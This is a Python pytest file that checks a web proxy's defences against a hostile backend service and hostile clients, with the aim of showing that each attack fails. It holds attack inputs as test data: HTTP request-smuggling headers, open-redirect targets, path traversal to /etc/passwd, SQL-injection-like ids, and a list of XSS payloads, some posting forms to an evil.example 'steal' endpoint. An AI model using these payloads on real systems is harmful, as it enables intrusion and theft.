"""The hostile service and hostile clients at the HTTP level: spoofed headers and parameters,
request smuggling, redirects, media traversal, CSRF across mounts, callback API abuse, and the
containment of a service's HTML (no script, no handler, no foreign form) under a strict CSP.
"""

from __future__ import annotations

import html.parser
import itertools
import re
import socket
import time
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
import requests
from hostile_site import Visitor, healthy_writes
from security_site import MOUNTS, Site
from served_proxy import ServedProxy

_numbers = itertools.count()


def _path(prefix: str = "h") -> str:
    return f"{prefix}{next(_numbers)}"


# -- slow replies ----------------------------------------------------------------------------------


def test_a_reply_trickled_a_byte_at_a_time_is_cut_at_the_timeout(
    site: Site, visitor: Visitor
) -> None:
    # Each byte comes well within the read timeout; the whole would take a minute.  The page is
    # a 504 once the mount's timeout (5 s) has passed, and the thread is free again.
    path = site.hostile.script(
        _path("trickle"), "<p>{{ title }}</p>", data={"title": "x" * 120}, trickle=0.5
    )
    started = time.monotonic()
    response = visitor.get(f"/hostile/{path}")
    assert response.status_code == 504
    assert time.monotonic() - started < 30  # a hang guard, far below the minute of the trickle
    assert len(site.hostile.requests_to(f"action/{path}")) == 1
    assert visitor.get("/healthy/").status_code == 200


# -- spoofed headers and parameters ----------------------------------------------------------------


def test_spoofed_plugit_headers_and_ebuio_parameters_never_reach_the_service(
    site: Site, visitor: Visitor
) -> None:
    path = site.hostile.script(_path(), "<p>{{ title }}</p>", meta={"user_info": ["pk", "email"]})
    spoofed = {
        "X-Plugit-Remote-Addr": "10.9.9.9",
        "X-PLUGIT-User-Username": "boss",
        "X-Plugit_User_Email": "boss@site.example",
        "X-Plugit-Orga-Pk": "999",
        "X-Plugitsession-role": "admin",
        "X-Forwarded-For": "10.9.9.9",
    }
    query = {"ebuio_u_pk": "999", "EBUIO_u_email": "x@evil", "ebuio_orgapk": "7", "ok": "1"}
    visitor.get(f"/hostile/{path}", params=query, headers=spoofed)
    token = _token_of(site, visitor, "hostile")
    visitor.post(
        f"/hostile/{path}",
        data={"ebuio_u_pk": "999", "ebuio_admin": "True", "csrfmiddlewaretoken": token, "ok": "2"},
        headers=spoofed,
    )
    calls = [r for r in site.hostile.requests_to(f"action/{path}")]
    assert len(calls) == 2
    me = site.users["visitor"]
    for call in calls:
        names = {k.lower(): v for k, v in call.headers.items()}
        assert names.get("x-plugit-remote-addr") == "127.0.0.1"
        assert not any(
            k.startswith(("x-plugit-user", "x-plugit_", "x-plugit-orga", "x-plugitsession"))
            for k in names
        ), names
        params = call.query + _form(call.body)
        ebuio = sorted((k, v) for k, v in params if k.lower().startswith("ebuio"))
        assert ebuio == [("ebuio_u_email", me.email), ("ebuio_u_pk", str(me.pk))], ebuio
        assert ("ok", "1") in params or ("ok", "2") in params
        assert "csrfmiddlewaretoken" not in dict(params)


def _form(body: bytes) -> list[tuple[str, str]]:
    from urllib.parse import parse_qsl

    return parse_qsl(body.decode("latin-1"), keep_blank_values=True)


def test_spoofed_reply_headers_of_the_service_stay_with_the_service(
    site: Site, visitor: Visitor
) -> None:
    """Cookies, security headers and session writes the service sends do not reach the visitor
    (or the visitor's session) beyond what the protocol forwards."""
    path = site.hostile.script(
        _path(),
        "<p>x</p>",
        headers={
            "Set-Cookie": "plugit_session=planted; Path=/",
            "Content-Security-Policy": "script-src * 'unsafe-inline'",
            "X-Frame-Options": "ALLOWALL",
            "Location": "https://evil.example/",
            "Refresh": "0; url=https://evil.example/",
            "Link": "<https://evil.example/x.js>; rel=preload; as=script",
            "EbuIo-PlugIt-SetSession-ok": "fine",
            "EbuIo-PlugIt-SetSession-uid": "4",
        },
    )
    cookie_before = visitor.cookies.get("plugit_session")
    response = visitor.get(f"/hostile/{path}")
    assert response.status_code == 200
    assert "planted" not in response.headers.get("Set-Cookie", "")
    assert "Location" not in response.headers and "Refresh" not in response.headers
    assert "evil.example" not in response.headers.get("Link", "")
    assert "unsafe-inline" not in _script_src(response.headers["Content-Security-Policy"])
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert visitor.cookies.get("plugit_session") not in (None, "planted")
    assert cookie_before is not None
    # the visitor is still the visitor: a session write named uid is the service's own value
    echo = site.hostile.script(_path(), "<p>x</p>", meta={"user_info": ["pk"]})
    visitor.get(f"/hostile/{echo}")
    sent = site.hostile.requests_to(f"action/{echo}")[-1]
    assert ("ebuio_u_pk", str(site.users["visitor"].pk)) in sent.query


def _script_src(policy: str) -> str:
    for part in policy.split(";"):
        if part.strip().startswith(("script-src", "default-src")):
            return part
    return ""


# -- request smuggling, against the production server (plugit proxy) -------------------------------


def _raw(served: ServedProxy, data: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", served.port), timeout=10) as sock:
        sock.sendall(data)
        chunks = []
        deadline = time.monotonic() + 10
        sock.settimeout(3)
        while time.monotonic() < deadline:
            try:
                chunk = sock.recv(65536)
            except TimeoutError:
                break
            if not chunk:
                break
            chunks.append(chunk)
        return b"".join(chunks)


SMUGGLED = "smuggled-path-must-never-be-asked"


@pytest.mark.parametrize(
    "head",
    [
        "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
        "Content-Length: 4\r\nTransfer-Encoding: chunked, identity\r\n",
        "Content-Length: 4\r\nTransfer-Encoding: xchunked\r\n",
        "Content-Length: 4\r\nTransfer-Encoding : chunked\r\n",
        "Content-Length: 4\r\nTransfer-Encoding:\tchunked\r\n",
        "Content-Length: 4\r\nContent-Length: 60\r\n",
        "Content-Length: 4, 60\r\n",
        "Content-Length: +60\r\n",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    ],
    ids=[
        "cl-te",
        "te-cl",
        "te-list",
        "te-xchunked",
        "te-space",
        "te-tab",
        "cl-cl",
        "cl-list",
        "cl-plus",
        "te-te",
    ],
)
def test_conflicting_framing_smuggles_no_request(
    site: Site, served: ServedProxy, head: str
) -> None:
    """A request whose length is ambiguous is refused (or read one way only): the request hidden
    in its body never reaches a service as a request of its own."""
    page = site.hostile.script(_path(), "<p>x</p>")
    site.hostile.script(SMUGGLED, "<p>smuggled</p>")
    hidden = f"GET /hostile/{SMUGGLED} HTTP/1.1\r\nHost: x\r\n\r\n"
    body = f"0\r\n\r\n{hidden}"
    request = (
        f"POST /hostile/{page} HTTP/1.1\r\nHost: 127.0.0.1\r\n{head}"
        f"Content-Type: text/plain\r\n\r\n{body}"
    ).encode()
    answer = _raw(served, request + f"GET /hostile/{page} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    statuses = [int(s) for s in re.findall(rb"^HTTP/1\.[01] (\d{3})", answer, re.M)]
    assert statuses, answer[:500]
    assert all(s < 500 for s in statuses), answer[:2000]
    assert not site.hostile.requests_to(f"action/{SMUGGLED}"), (
        "a smuggled request reached the service"
    )
    assert not site.hostile.requests_to(f"meta/{SMUGGLED}"), (
        "a smuggled request reached the service"
    )


@pytest.mark.parametrize(
    "header",
    [
        "X-Innocent: a\r\n X-Plugit-Remote-Addr: 10.9.9.9\r\n",
        "X-Innocent: a\r\n\tX-Plugit-Remote-Addr: 10.9.9.9\r\n",
        "X-Plugit-Remote-Addr : 10.9.9.9\r\n",
        "X-Plugit-Remote-Addr\t: 10.9.9.9\r\n",
        "x-plugit-remote-addr: 10.9.9.9\r\n",
        "X_Plugit_Remote_Addr: 10.9.9.9\r\n",
    ],
    ids=[
        "fold-space",
        "fold-tab",
        "space-before-colon",
        "tab-before-colon",
        "lower",
        "underscores",
    ],
)
def test_obs_fold_and_odd_header_names_spoof_nothing(
    site: Site, served: ServedProxy, header: str
) -> None:
    page = site.hostile.script(_path(), "<p>x</p>")
    request = (
        f"GET /hostile/{page} HTTP/1.1\r\nHost: 127.0.0.1\r\n{header}Connection: close\r\n\r\n"
    )
    answer = _raw(served, request.encode())
    status = int(re.match(rb"HTTP/1\.[01] (\d{3})", answer).group(1))
    assert status in (200, 400), answer[:500]
    for call in site.hostile.requests_to(f"action/{page}"):
        values = [v for k, v in call.headers.items() if k.lower().startswith("x-plugit")]
        assert "10.9.9.9" not in " ".join(values), call.headers


# -- redirects -------------------------------------------------------------------------------------

EVIL_TARGETS = [
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "/\t/evil.example/",
    "/ /evil.example/",
    "https://evil.example/",
    "https:evil.example",
    "https:/\\evil.example/",
    "http://127.0.0.1.evil.example/",
    "http://evil.example\\@127.0.0.1/",
    "http://127.0.0.1@evil.example/",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/%2f%2fevil.example/",
    "/\u3000/evil.example/",
    "/\x0b/evil.example/",
    "\x00//evil.example/",
]


@pytest.mark.parametrize("no_prefix", [True, False], ids=["no-prefix", "prefixed"])
@pytest.mark.parametrize("target", EVIL_TARGETS)
def test_redirects_stay_on_the_site(
    site: Site, visitor: Visitor, target: str, no_prefix: bool
) -> None:
    headers = {"EbuIo-PlugIt-Redirect": target}
    if no_prefix:
        headers["EbuIo-PlugIt-Redirect-NoPrefix"] = "True"
    path = site.hostile.script(_path(), None, headers=headers, data={})
    response = visitor.get(f"/hostile/{path}")
    assert response.status_code in (301, 302, 303, 307, 308, 400, 404, 502), response.status_code
    if response.status_code not in (301, 302, 303, 307, 308):
        return  # refused
    location = response.headers["Location"]
    # as a browser reads it: tabs and line breaks dropped, backslashes are slashes
    cleaned = re.sub(r"[\t\n\r]", "", location).replace("\\", "/").strip("\x00 \x0b\x0c")
    resolved = urlsplit(urljoin(site.base + f"/hostile/{path}", cleaned))
    assert resolved.scheme == "http" and resolved.netloc == urlsplit(site.base).netloc, location
    if not no_prefix:
        assert resolved.path.startswith("/hostile/"), location


# -- media traversal -------------------------------------------------------------------------------

TRAVERSALS = [
    "media/../../../../etc/passwd",
    "media/..%2f..%2f..%2fetc%2fpasswd",
    "media/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "media/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
    "media/..%5c..%5c..%5cetc%5cpasswd",
    "media/x/../../action/secret",
    "media/%252e%252e/%252e%252e/action/secret",
    "media/./../action/secret",
    "media/..;/action/secret",
    "media/%c0%ae%c0%ae/action/secret",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_media_paths_never_climb_out_of_media(site: Site, path: str) -> None:
    site.hostile.media["ok.css"] = (200, {"Content-Type": "text/css"}, b"body{}")
    before = len(site.hostile.received)
    with socket.create_connection(urlsplit(site.base).netloc.split(":"), timeout=10) as sock:
        sock.sendall(
            f"GET /hostile/{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
        )
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    status = int(re.match(rb"HTTP/1\.[01] (\d{3})", answer).group(1))
    assert status in (400, 404), answer[:300]
    for call in site.hostile.received[before:]:  # (paths as the service decoded them)
        segments = [part.split(";")[0] for part in call.path.replace("\\", "/").split("/")]
        assert call.path.startswith("/media/") and ".." not in segments, call.path


def test_an_honest_media_file_still_comes_through(site: Site) -> None:
    site.hostile.media["ok.css"] = (200, {"Content-Type": "text/css"}, b"body{}")
    browser = site.browser()
    response = browser.get("/hostile/media/ok.css")
    assert response.status_code == 200 and response.text == "body{}"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


# -- CSRF across mounts ----------------------------------------------------------------------------


def _token_of(site: Site, visitor: Visitor, mount: str) -> str:
    path = site.hostile.script(_path("tok"), '<p id="tok">[{{ csrf_token }}]</p>')
    prefix = MOUNTS["jinja"] if mount == "hostile" else MOUNTS["django"]
    page = visitor.get(prefix + path)
    match = re.search(r"\[([A-Za-z0-9_\-]{20,})\]", page.text)
    assert match is not None, page.text[:2000]
    return match.group(1)


def test_a_token_read_in_the_hostile_page_is_refused_by_other_mounts(
    site: Site, visitor: Visitor
) -> None:
    token = _token_of(site, visitor, "hostile")
    writes = len(healthy_writes)
    refused = visitor.post("/healthy/write", data={"csrfmiddlewaretoken": token, "x": "1"})
    assert refused.status_code == 403
    refused = visitor.post("/healthy/write", data={"x": "1"}, headers={"X-CSRFToken": token})
    assert refused.status_code == 403
    assert len(healthy_writes) == writes
    django_token = _token_of(site, visitor, "hostiledj")
    assert django_token != token
    # the site's own forms: logging the visitor out with the service's token does not work
    visitor.post("/_plugit/logout", data={"csrfmiddlewaretoken": token})
    assert visitor.get("/healthy/").status_code == 200
    assert "visitor" in visitor.get("/healthy/").text.lower()
    # and the healthy page's own token works on its own mount
    healthy = visitor.get("/healthy/")
    own = visitor.csrf_from(healthy.text)
    assert own != token
    assert visitor.post("/healthy/write", data={"csrfmiddlewaretoken": own}).status_code == 200
    assert len(healthy_writes) == writes + 1


# -- the callback API, abused ----------------------------------------------------------------------


def _api(
    site: Site, mount: str, path: str, key: str, method: str = "GET", **kwargs: Any
) -> requests.Response:
    browser = site.browser()
    headers = {"Authorization": f"Bearer {key}", **kwargs.pop("headers", {})}
    return browser.request(method, f"{mount}ebuio_api/{path}", headers=headers, **kwargs)


def test_the_api_serves_a_service_its_own_members_only(site: Site) -> None:
    key = site.canaries.hostile_api_key
    users = site.users
    assert _api(site, "/hostile/", f"user/{users['buddy'].pk}", key).status_code == 200
    for name in ("stranger", "boss"):
        pk = users[name].pk
        for path in (f"user/{pk}", f"subscriptions/{pk}", f"user/{pk}/techgroups/"):
            assert _api(site, "/hostile/", path, key).status_code == 404, path
    members = _api(site, "/hostile/", "members/", key).json()["members"]
    assert {m["username"] for m in members} == {"visitor", "buddy"}
    # (the canary check of the fixture covers the names in orgas/ and orga/<pk>)
    assert _api(site, "/hostile/", "orgas/", key).status_code == 200
    orgas = {o.name: o.pk for o in site.proxy.users.list_orgas()}
    assert _api(
        site, "/hostile/", f"orga/{orgas[site.canaries.stranger_orga]}", key
    ).status_code in (403, 404)


def test_a_key_opens_its_own_mount_only(site: Site) -> None:
    key = site.canaries.hostile_api_key
    pk = site.users["visitor"].pk
    for mount in ("/healthy/", "/hostiledj/"):
        assert _api(site, mount, f"user/{pk}", key).status_code == 403
    browser = site.browser()
    for header in (f"Bearer  {key}x", f"Basic {key}", key, f"Bearer {key[:-1]}", "Bearer "):
        answer = browser.get(f"/hostile/ebuio_api/user/{pk}", headers={"Authorization": header})
        assert answer.status_code == 403, header


BAD_PKS = [
    "..%2f..%2fmembers",
    "%00",
    "99999999999999999999999999",
    "-1",
    "1e3",
    "1%20OR%201=1",
    "%27%3B--",
    "%E2%80%AE1",
    "NaN",
    "0x1",
    "a" * 300,
]


@pytest.mark.parametrize("pk", BAD_PKS)
def test_odd_user_ids_get_a_clear_refusal(site: Site, pk: str) -> None:
    response = _api(site, "/hostile/", f"user/{pk}", site.canaries.hostile_api_key)
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:300])
    assert response.headers["Content-Type"].startswith("application/json")


def test_api_bodies_over_the_limit_and_garbage_are_4xx(site: Site) -> None:
    key = site.canaries.hostile_api_key
    big = b"x" * (2 * 1024 * 1024)
    assert _api(site, "/hostile/", "mail/", key, "POST", data=big).status_code == 413

    def chunks() -> Any:
        for _ in range(40):
            yield b"x" * 65536

    assert _api(site, "/hostile/", "mail/", key, "POST", data=chunks()).status_code == 413
    for body, kind in (
        (b"\xff\xfe\x00garbage", "application/x-www-form-urlencoded"),
        (b"{not json", "application/json"),
        (b"--b\r\nbroken", "multipart/form-data; boundary=b"),
    ):
        answer = _api(
            site, "/hostile/", "mail/", key, "POST", data=body, headers={"Content-Type": kind}
        )
        assert 400 <= answer.status_code < 500, (kind, answer.status_code, answer.text[:300])


def test_a_service_cannot_mail_users_who_are_not_its_members(site: Site) -> None:
    key = site.canaries.hostile_api_key
    for dests in (
        site.canaries.stranger_email,
        site.canaries.boss_email,
        f"buddy@site.example,{site.canaries.stranger_email}",
        site.canaries.stranger_email.upper(),
        f"<{site.canaries.stranger_email}>",
    ):
        answer = _api(
            site,
            "/hostile/",
            "mail/",
            key,
            "POST",
            data={"subject": "Hello", "message": "Hi", "dests": dests},
        )
        assert answer.status_code in (400, 403), (dests, answer.status_code, answer.text[:300])
    assert not any(site.canaries.find(m.decode("utf-8", "replace")) for m in site.mails.messages)
    # The refusals name the addresses the service sent itself: no leak, so not checked as one.
    site.check.mark()


# -- the service's HTML, contained -----------------------------------------------------------------

SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<script nonce='{{ csp_nonce }}{{ nonce }}'>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';"
    " body{background:url(javascript:alert(1))}</style>",
    "<form action='https://evil.example/steal' method='post'><input name='x'></form>",
    "<form><button formaction='https://evil.example/steal'>go</button></form>",
    "<a href='https://evil.example/'>phish</a>",
    "<a href='//evil.example/'>phish</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "{{ '<script>alert(1)</script>'|safe }}",
    "{{ csrf_field }}<script>document.forms[0]</script>",
]


class _Page(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def _nonce(policy: str) -> str:
    match = re.search(r"'nonce-([^']+)'", policy)
    assert match is not None, policy
    return match.group(1)


def test_a_sandboxed_service_page_runs_no_script_of_the_service(
    site: Site, visitor: Visitor
) -> None:
    for dialect in ("jinja", "django"):
        source = (
            "".join(SCRIPTS) if dialect == "jinja" else "".join(s for s in SCRIPTS if "{{" not in s)
        )
        path = site.hostile.script(
            _path(),
            '{% extends "plugit/base.html" %}{% block content %}' + source + "{% endblock %}",
        )
        response = visitor.get(MOUNTS[dialect] + path)
        assert response.status_code == 200
        policy = response.headers["Content-Security-Policy"]
        script_src = _script_src(policy)
        assert "'unsafe-inline'" not in script_src and "*" not in script_src, policy
        assert "'unsafe-eval'" not in script_src
        nonce = _nonce(policy)
        page = _Page()
        page.feed(response.text)
        site_host = urlsplit(site.base).netloc
        for tag, attrs in page.tags:
            handlers = [a for a in attrs if a.lower().startswith("on")]
            assert not handlers, (tag, attrs)
            for name in ("href", "src", "action", "formaction", "data", "srcdoc"):
                value = re.sub(r"[\x00-\x20]", "", attrs.get(name, "")).lower()
                assert not value.startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)
                if name == "srcdoc":
                    assert not value, (tag, attrs)
                if value and name in ("action", "formaction", "src"):
                    resolved = urlsplit(urljoin(site.base + "/", value))
                    assert resolved.netloc in ("", site_host), (tag, attrs)
            if tag == "script":
                assert attrs.get("nonce") == nonce and attrs.get("src", "").startswith(
                    "/_plugit/static/"
                ), attrs
            assert tag not in ("iframe", "object", "embed", "base"), (tag, attrs)
            if tag == "meta":
                assert "http-equiv" not in attrs, attrs
        assert "evil.example/x.js" not in response.text
        assert (
            "alert(1)</script>" not in response.text.replace("&lt;", "<")
            or "<script>alert" not in response.text
        )


def test_every_answer_carries_the_security_headers(site: Site, visitor: Visitor) -> None:
    page = site.hostile.script(_path(), "<p>x</p>")
    data = site.hostile.script(_path(), None, meta={"json_only": True}, data={"a": 1})
    site.hostile.media["ok.css"] = (200, {"Content-Type": "text/css"}, b"body{}")
    answers = {
        "page": visitor.get(f"/hostile/{page}"),
        "json": visitor.get(f"/hostile/{data}"),
        "media": visitor.get("/hostile/media/ok.css"),
        "missing": visitor.get("/hostile/no-such-action"),
        "healthy": visitor.get("/healthy/"),
        "login": visitor.get("/_plugit/login"),
        "api": _api(site, "/hostile/", "members/", site.canaries.hostile_api_key),
    }
    for what, response in answers.items():
        headers = response.headers
        assert headers.get("X-Content-Type-Options") == "nosniff", what
        assert headers.get("Referrer-Policy"), what
        frames = headers.get("X-Frame-Options") or ""
        assert frames in ("DENY", "SAMEORIGIN") or "frame-ancestors" in headers.get(
            "Content-Security-Policy", ""
        ), what
    raw = answers["json"].headers.get("Content-Security-Policy", "")
    assert "sandbox" in raw or "default-src 'none'" in raw, raw
